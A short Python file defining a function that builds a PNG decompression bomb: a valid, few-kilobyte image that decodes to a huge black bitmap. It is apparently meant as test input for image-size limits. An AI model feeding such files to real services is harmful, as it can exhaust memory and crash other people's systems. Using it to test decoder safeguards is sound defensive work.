import struct
import zlib


def bomb(side: int) -> bytes:
    """A black PNG of side x side pixels, in a few kilobytes."""
    rows = bytes((side + 7) // 8 + 1) * side
    parts = {
        b"IHDR": struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0),
        b"IDAT": zlib.compress(rows, 9),
        b"IEND": b"",
    }
    chunks = (
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in parts.items()
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)
